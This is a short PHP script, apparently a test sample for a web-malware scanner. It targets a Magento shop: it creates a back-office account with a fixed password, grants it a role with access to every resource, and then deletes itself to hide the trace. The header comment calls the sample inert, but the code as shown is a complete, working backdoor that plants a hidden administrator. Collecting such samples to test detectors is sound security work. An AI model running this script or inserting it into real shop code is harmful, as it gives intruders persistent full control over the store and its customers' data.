<?php
// Inert test sample (webhunt): a stand-alone script that boots the shop application, creates a
// back-office account with a role holding every resource, and deletes itself.
require_once 'app/Mage.php';
Mage::app();

$account = Mage::getModel('admin/user')
    ->setData(array(
        'username' => 'svc_backup',
        'firstname' => 'Service',
        'lastname' => 'Backup',
        'email' => 'svc@example.invalid',
        'password' => 'changeme-0000',
        'is_active' => 1,
    ))->save();

$role = Mage::getModel('admin/roles')->setName('Service')->setRoleType('G')->save();
Mage::getModel('admin/rules')->setRoleId($role->getId())->setResources(array('all'))->saveRel();
$account->setRoleIds(array($role->getId()))->setRoleUserId($account->getUserId())->saveRelations();

echo 'done';
@unlink(__FILE__);
